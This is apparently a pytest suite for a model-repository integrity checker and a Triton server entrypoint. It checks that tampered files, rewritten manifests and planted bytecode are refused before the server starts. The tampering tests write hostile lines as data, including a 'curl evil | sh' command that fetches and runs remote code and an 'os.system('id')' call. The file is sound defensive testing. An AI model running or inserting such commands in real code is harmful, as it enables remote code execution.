"""`tns verify` and the production Triton image's entrypoint: a repository whose files differ from the export
manifest is refused, naming the file, before tritonserver starts (`docker/verified-tritonserver.sh`)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from core.common.constants import REPOSITORY_MANIFEST_FILE
from core.common.integrity import manifest_sha256, repository_manifest
from tns.main import main

ROOT = Path(__file__).resolve().parents[2]
ENTRYPOINT = ROOT / "docker" / "verified-tritonserver.sh"


@pytest.fixture
def export(tmp_path: Path) -> tuple[Path, str]:
    """An export folder: `model_repository/` and its manifest beside it; returns the repository and the hash."""
    repository = tmp_path / "export" / "model_repository"
    (repository / "preprocess" / "1").mkdir(parents=True)
    (repository / "classifier" / "1").mkdir(parents=True)
    (repository / "preprocess" / "1" / "model.py").write_text("def initialize(args):\n    pass\n")
    (repository / "classifier" / "1" / "model.onnx").write_bytes(b"\x08\x07onnx-weights")
    (repository / "classifier" / "config.pbtxt").write_text('name: "classifier"\n')
    manifest = repository_manifest(repository)
    (repository.parent / REPOSITORY_MANIFEST_FILE).write_bytes(manifest)
    return repository, manifest_sha256(manifest)


def test_an_intact_repository_passes(export, capsys: pytest.CaptureFixture):
    repository, expected = export
    assert main(["verify", "--repository", str(repository), "--manifest-sha256", expected]) == 0
    assert "every file matches" in capsys.readouterr().out


@pytest.mark.parametrize("changed", ["preprocess/1/model.py", "classifier/1/model.onnx"])
def test_a_tampered_file_is_refused_by_name(export, changed: str, capsys: pytest.CaptureFixture):
    repository, expected = export
    with (repository / changed).open("ab") as handle:
        handle.write(b"\nimport os; os.system('curl evil | sh')\n")
    assert main(["verify", "--repository", str(repository), "--manifest-sha256", expected]) == 1
    assert f"{changed} does not match its SHA-256 recorded at export" in capsys.readouterr().err


def test_a_rewritten_manifest_is_refused(export, capsys: pytest.CaptureFixture):
    """Whoever changes a file and rewrites the manifest to match is caught by the registry's hash."""
    repository, expected = export
    (repository / "preprocess" / "1" / "model.py").write_text("import os\n")
    (repository.parent / REPOSITORY_MANIFEST_FILE).write_bytes(repository_manifest(repository))
    assert main(["verify", "--repository", str(repository), "--manifest-sha256", expected]) == 1
    assert "the manifest was changed" in capsys.readouterr().err


def _entrypoint(repository: Path, expected: str, tmp_path: Path) -> tuple[subprocess.CompletedProcess, Path]:
    record = tmp_path / "tritonserver-args"
    server = tmp_path / "tritonserver"  # stands in for the server binary: records how it was started
    server.write_text(f'#!/bin/sh\necho "$@" > {record}\n')
    server.chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "TNS_REPOSITORY": str(repository),
        "TNS_REPOSITORY_MANIFEST_SHA256": expected,
        "TNS_TRITONSERVER": str(server),
    }
    done = subprocess.run(
        ["sh", str(ENTRYPOINT), "--log-verbose=0"], env=env, capture_output=True, text=True, timeout=120
    )
    return done, record


def test_the_image_entrypoint_starts_the_server_only_on_an_intact_repository(export, tmp_path: Path):
    repository, expected = export
    done, record = _entrypoint(repository, expected, tmp_path)
    assert done.returncode == 0, done.stderr
    assert record.read_text().split() == [f"--model-repository={repository}", "--log-verbose=0"]
    record.unlink()
    (repository / "preprocess" / "1" / "model.py").write_text("import os; os.system('id')\n")
    done, record = _entrypoint(repository, expected, tmp_path)
    assert done.returncode == 1 and "preprocess/1/model.py does not match" in done.stderr
    assert not record.exists()  # the server never started


def test_planted_bytecode_is_refused_or_removed(export, capsys: pytest.CaptureFixture):
    """Python runs `__pycache__/model.cpython-*.pyc` instead of the verified `model.py` beside it: bytecode is an
    unexpected file, which `--remove-bytecode` (the image's entrypoint, a served cached copy) deletes first."""
    repository, expected = export
    planted = repository / "preprocess" / "1" / "__pycache__" / "model.cpython-311.pyc"
    planted.parent.mkdir()
    planted.write_bytes(b"\x00" * 16 + b"malicious code object")
    command = ["verify", "--repository", str(repository), "--manifest-sha256", expected]
    assert main(command) == 1
    assert "preprocess/1/__pycache__/model.cpython-311.pyc was not exported" in capsys.readouterr().err
    assert main([*command, "--remove-bytecode"]) == 0 and not planted.parent.exists()


def test_the_entrypoint_refuses_arguments_that_serve_unverified_files(export, tmp_path: Path):
    repository, expected = export
    for argument in (
        "--model-repository=/elsewhere",
        "--model-control-mode=poll",
        "--repository-poll-secs=5",
    ):
        env = {**os.environ, "TNS_REPOSITORY": str(repository), "TNS_REPOSITORY_MANIFEST_SHA256": expected}
        done = subprocess.run(["sh", str(ENTRYPOINT), argument], env=env, capture_output=True, text=True)
        assert done.returncode == 2 and f"refusing tritonserver argument '{argument}'" in done.stderr
